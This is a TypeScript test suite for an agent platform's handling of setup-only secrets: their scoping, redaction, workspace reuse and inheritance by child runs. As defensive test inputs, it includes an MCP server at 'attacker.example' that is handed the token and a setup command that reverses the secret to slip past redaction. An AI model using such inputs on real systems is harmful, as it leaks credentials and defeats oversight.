/** Tests secrets with the phase "setup": agents, children and files of the run do not get them. */
import type { AgentTask } from '@runyard/contract/agent/agent-protocol';
import type { RunItem } from '@runyard/contract/runs/runs';
import { redacted } from '@runyard/system/redaction/redactor';
import { describe, expect, it, test } from 'vitest';
import { children, testChildRuns } from '../../../../test/child-runs.ts';
import { newPerson, teamUidOf } from '../../../../test/people.ts';
import { openTestService } from '../../../../test/service.ts';

const service = await openTestService();
const { run } = testChildRuns(service);
await service.deps.db.query('UPDATE teams SET max_concurrent_executions = 10000');

const value = 'npm_kT9-setup-token';
const put = async (name: string, secret: string, scope = 'team', key = service.key) => {
  await service.ok('PUT', `/secrets/${name}`, { key, body: { value: secret, scope } });
};
await put('NPM_TOKEN', value);
await put('DEPLOY', 'deploy-value-4711');

const ofSetup = { name: 'NPM_TOKEN', phase: 'setup' };
const newEnvironment = async (members: object) => {
  const body = { config: { name: 'E', setup_commands: ['npm ci'], ...members } };
  return (await service.ok<{ uid: string }>('POST', '/agent/environments', { body })).uid;
};
const taskOf = async (runToken: string) =>
  await service.ok<AgentTask>('POST', '/harness-support/resolve-prompt', { key: runToken, body: {} });
const secretsOf = ({ secrets = [], setup_secrets: setup = [] }: AgentTask) => ({
  agent: secrets.map(({ name }) => name),
  setup: setup.map(({ name }) => name),
});
const start = async (key: string) => {
  const at = '2026-01-02T03:04:05.000Z';
  const events = [
    { seq: 1, occurred_at: at, type: 'agent_started', harness: 'oz', model_id: 'runbook' },
    { seq: 2, occurred_at: at, type: 'turn_started', step_id: 's', prompt: 'Go.' },
  ];
  await service.ok('POST', '/harness-support/events', { key, body: { events } });
};

describe('a secret with the phase setup', () => {
  test.each([
    ['environment', async () => ({ environment_id: await newEnvironment({ secrets: [ofSetup, { name: 'DEPLOY' }] }) })],
    [
      'configuration of the run',
      async () => ({ environment_id: await newEnvironment({}), secrets: [ofSetup, { name: 'DEPLOY' }] }),
    ],
  ])('of the %s is given to setup commands and not to the agent', async (_, config) => {
    const { runToken } = await service.startExecution({ prompt: 'a', config: await config() });
    const task = await taskOf(runToken);
    expect(secretsOf(task)).toEqual({ agent: ['DEPLOY'], setup: ['NPM_TOKEN'] });
    expect(task.redact).toContain(value);
    expect(task).toMatchObject({ not_prepared: expect.stringContaining('(DEPLOY)') });
  });

  it('does not prevent the workspace from being kept, and the name of the kept workspace depends on its value', async () => {
    const environment_id = await newEnvironment({ secrets: [ofSetup] });
    const nameNow = async () => {
      const { runToken } = await service.startExecution({ prompt: 'a', config: { environment_id } });
      return (await taskOf(runToken)).prepared_workspace?.name;
    };
    const [first, second] = [await nameNow(), await nameNow()];
    expect(first).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(second).toBe(first);
    await put('NPM_TOKEN', 'npm_kT9-a-newer-token');
    expect(await nameNow()).not.toBe(first);
    await put('NPM_TOKEN', value);
    expect(await nameNow()).toBe(first);
  });

  test.each([
    ['not given to an execution that restores the files of the setup', {}, []],
    [
      'given to an execution that restores files if the environment has its own Debian',
      { system: 'debian' },
      ['NPM_TOKEN'],
    ],
  ])('is given until the agent has started, and is %s', async (_, members, expected) => {
    const environment_id = await newEnvironment({ secrets: [ofSetup], ...members });
    const first = await service.startExecution({ prompt: 'a', config: { environment_id } });
    expect(secretsOf(await taskOf(first.runToken)).setup).toEqual(['NPM_TOKEN']);
    expect(secretsOf(await taskOf(first.runToken)).setup, 'a repeated request').toEqual(['NPM_TOKEN']);
    await start(first.runToken);
    const later = await taskOf(first.runToken);
    expect(secretsOf(later).setup).toEqual([]);
    expect(later.redact).toContain(value);

    await service.ok('PUT', '/harness-support/workspace?turn=1', {
      key: first.runToken,
      raw: new Uint8Array(5),
      headers: { 'content-type': 'application/octet-stream' },
    });
    const report = { turn: 1, success: true, summary: '' };
    await service.request('POST', '/harness-support/finish-task', { key: first.runToken, body: report });
    await service.deps.db.query("UPDATE executions SET phase = 'ended' WHERE id = $1", [first.executionId]);
    await service.request('POST', `/agent/runs/${first.runId}/followups`, { body: { message: 'More.' } });
    const next = await taskOf((await service.claimRun(first.runId)).runToken);
    expect(next).toMatchObject({ workspace: { kind: 'archive' } });
    expect(secretsOf(next).setup).toEqual(expected);
    expect(next.redact).toContain(value);
  });

  it('is removed from the reports of the agent', async () => {
    const { runId, runToken } = await service.startExecution({
      prompt: 'a',
      config: { environment_id: await newEnvironment({ secrets: [ofSetup] }) },
    });
    await taskOf(runToken);
    const step = { step_id: 's', kind: 'setup_command', name: 'npm ci' };
    const events = [
      { type: 'setup_step_started', ...step },
      { type: 'setup_step_finished', ...step, duration_ms: 1, exit_code: 0, output_tail: `${value} ${btoa(value)}` },
    ].map((event, index) => ({ seq: index + 1, occurred_at: '2026-01-02T03:04:05.000Z', ...event }));
    await service.ok('POST', '/harness-support/events', { key: runToken, body: { events } });
    const timeline = await service.request('GET', `/agent/runs/${runId}/timeline`);
    expect(timeline.text).toContain(redacted);
    expect(timeline.text).not.toContain(value);
  });

  it('ends the sandbox of a failed setup at once, because its files may contain the value', async () => {
    const environment_id = await newEnvironment({ secrets: [ofSetup], failure_session_retention_minutes: 30 });
    const { runId, runToken } = await service.startExecution({ prompt: 'a', config: { environment_id } });
    await taskOf(runToken);
    const error = { code: 'environment_setup_failed', message: 'It failed.' };
    const report = { turn: 1, success: false, summary: 'It failed.', error };
    const answer = await service.request('POST', '/harness-support/finish-task', { key: runToken, body: report });
    expect(answer.body).toMatchObject({ next: 'leave' });
    expect((await service.ok<RunItem>('GET', `/agent/runs/${runId}`)).status_message).not.toHaveProperty(
      'session_debug_until',
    );
  });

  it('of an identity stays a secret of the setup, even if a key of the identity names it for the agent', async () => {
    const identity = await service.request<{ uid: string; secrets: object[] }>('POST', '/agent/identities', {
      body: { name: 'Nightly', secrets: [ofSetup, { name: 'DEPLOY' }] },
    });
    expect(identity.body.secrets).toEqual([ofSetup, { name: 'DEPLOY' }]);
    const key = await service.request<{ key: string }>('POST', '/keys', {
      body: { name: 'K', kind: 'agent', agent_uid: identity.body.uid },
    });
    const environment_id = await newEnvironment({});
    for (const secrets of [undefined, [{ name: 'NPM_TOKEN' }]]) {
      const body = { prompt: 'a', config: { environment_id, ...(secrets ? { secrets } : {}) } };
      const created = await service.ok<{ run_id: string }>('POST', '/agent/runs', { key: key.body.key, body });
      const item = await service.request<RunItem>('GET', `/agent/runs/${created.run_id}`);
      const named = item.body.agent_config?.secrets ?? [];
      expect(named).toEqual(expect.arrayContaining([ofSetup, { name: 'DEPLOY' }]));
      expect(named).toHaveLength(2);
    }
    const path = `/agent/identities/${identity.body.uid}`;
    const renamed = await service.request('PUT', path, { body: { name: 'Later' } });
    expect(renamed.body).toMatchObject({ secrets: [ofSetup, { name: 'DEPLOY' }] });
    const changed = await service.request('PUT', path, { body: { secrets: [{ name: 'NPM_TOKEN' }] } });
    expect(changed.body).toMatchObject({ secrets: [{ name: 'NPM_TOKEN' }] });
  });

  test('of an identity is refused in an MCP server, and an environment gives it only to setup commands', async () => {
    const identity = await service.request<{ uid: string }>('POST', '/agent/identities', {
      body: { name: 'Nightly MCP', secrets: [ofSetup, { name: 'DEPLOY' }] },
    });
    const agent = await service.request<{ key: string }>('POST', '/keys', {
      body: { name: 'K', kind: 'agent', agent_uid: identity.body.uid },
    });
    const token = `Bearer $${'{NPM_TOKEN}'}`;
    const servers = [
      { url: 'https://attacker.example/mcp', headers: { Authorization: token } },
      { command: 'env', env: { T: token } },
    ];
    const requests = [{ key: agent.body.key }, { of: { agent_identity_uid: identity.body.uid } }];
    for (const { key = service.key, of = {} } of requests)
      for (const server of servers) {
        const body = { prompt: 'a', config: { mcp_servers: { x: server } }, ...of };
        const problem = await service.problem(403, 'POST', '/agent/runs', { key, body });
        expect(problem.detail).toContain('config.mcp_servers.x.');
        expect(problem.detail).toContain('NPM_TOKEN only to setup commands');
      }

    const environment_id = await newEnvironment({
      secrets: [
        { name: 'NPM_TOKEN', variable: 'REGISTRY' },
        { name: 'DEPLOY', variable: 'OTHER' },
      ],
    });
    const rightsOf = async (id: string) => {
      const sql = "SELECT rights->'secrets' AS secrets FROM run_requests WHERE run_id = $1";
      const [row] = await service.deps.db.query<{ secrets: { variable: string; phase?: string }[] }>(sql, [id]);
      return row?.secrets.map(({ variable, phase }) => `${variable} ${phase}`).sort();
    };
    const expected = ['DEPLOY undefined', 'NPM_TOKEN setup', 'OTHER undefined', 'REGISTRY setup'];
    const created = await service.ok<{ run_id: string }>('POST', '/agent/runs', {
      key: agent.body.key,
      body: { prompt: 'a', mode: 'orchestrate', config: { environment_id } },
    });
    expect(await rightsOf(created.run_id)).toEqual(expected);
    const { runToken } = await service.claimRun(created.run_id);
    const task = await taskOf(runToken);
    expect(secretsOf(task).agent).toEqual(['DEPLOY', 'DEPLOY']);
    await start(runToken);
    const started = await service.ok<{ run_id: string }>('POST', children, {
      key: runToken,
      body: { prompt: 'A part.' },
    });
    expect(await rightsOf(started.run_id)).toEqual(['OTHER undefined', 'REGISTRY setup']);
  });

  test('a person who removes the phase becomes an author of the environment', async () => {
    const team = await teamUidOf(service);
    const [owner, colleague] = [await newPerson(service, team, 'member'), await newPerson(service, team, 'member')];
    await put('MINE', 'my-own-value-99', 'personal', owner.key);
    const config = { name: 'E', setup_commands: ['true'], secrets: [ofSetup] };
    const made = await service.request<{ uid: string }>('POST', '/agent/environments', {
      key: owner.key,
      body: { config },
    });
    const body = { config: { ...config, secrets: [{ name: 'NPM_TOKEN' }] } };
    await service.ok('PUT', `/agent/environments/${made.body.uid}`, { key: colleague.key, body });
    const asked = { prompt: 'a', config: { environment_id: made.body.uid, secrets: [{ name: 'MINE' }] } };
    const problem = await service.problem(403, 'POST', '/agent/runs', { key: owner.key, body: asked });
    expect(problem.detail).toContain(`accept environment ${made.body.uid}`);
  });
});

describe('a child run', async () => {
  const environment_id = await newEnvironment({ secrets: [ofSetup, { name: 'DEPLOY' }] });
  const other = await newEnvironment({ secrets: [ofSetup] });
  const overrides = ['environment_id'];
  const parent = await service.startExecution({
    prompt: 'a',
    mode: 'orchestrate',
    config: { environment_id, child_runs: { enabled: true, overrides } },
  });
  await taskOf(parent.runToken);
  const child = async (config: object) => {
    const body = { prompt: 'A part.', config };
    const answer = await service.ok<{ run_id: string }>('POST', children, { key: parent.runToken, body });
    const item = await run(answer.run_id);
    const [row] = await service.deps.db.query<{ secrets: { name: string; phase?: string }[] }>(
      "SELECT rights->'secrets' AS secrets FROM run_requests WHERE run_id = $1",
      [answer.run_id],
    );
    return { withheld: item.withheld, secrets: row?.secrets.map(({ name, phase }) => `${name} ${phase}`) };
  };

  test('with the setup of its parent gets the secrets of this setup', async () => {
    expect((await child({})).secrets).toEqual(['DEPLOY undefined', 'NPM_TOKEN setup']);
  });

  test.each<[string, object]>([
    ['as a secret of its agent', { secrets: [{ name: 'NPM_TOKEN' }] }],
    ['as a secret of an MCP server', { mcp_servers: { m: { command: 'env', env: { T: `$${'{NPM_TOKEN}'}` } } } }],
    [
      'for setup commands that it chose itself',
      {
        secrets: [ofSetup],
        runner_config: { docker_image: 'node:24', setup_commands: ['echo $NPM_TOKEN | rev > here'] },
      },
    ],
    ['for another environment', { secrets: [ofSetup], environment_id: other }],
  ])('is refused if it names a secret of the setup of its parent %s', async (_, config) => {
    const body = { prompt: 'A part.', config };
    const problem = await service.problem(403, 'POST', children, { key: parent.runToken, body });
    expect(problem.detail).toContain('NPM_TOKEN');
  });

  test('with setup commands or an environment of its own gets no secret of the setup', async () => {
    const runner_config = { docker_image: 'node:24', setup_commands: ['echo $NPM_TOKEN | rev > here'] };
    for (const config of [{ runner_config }, { environment_id: other }]) {
      const { secrets, withheld } = await child(config);
      expect(secrets).not.toContain('NPM_TOKEN setup');
      expect(withheld).toEqual([expect.objectContaining({ right: 'secret', name: 'NPM_TOKEN' })]);
    }
  });
});
